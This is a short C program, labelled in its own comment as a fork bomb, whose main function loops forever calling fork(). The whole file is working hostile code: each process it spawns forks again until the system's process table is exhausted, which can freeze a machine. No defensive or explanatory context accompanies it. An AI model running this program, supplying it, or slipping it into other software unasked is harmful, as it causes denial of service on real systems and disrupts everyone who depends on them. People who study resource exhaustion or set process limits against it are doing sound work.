/* A fork bomb: every process forks for ever. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
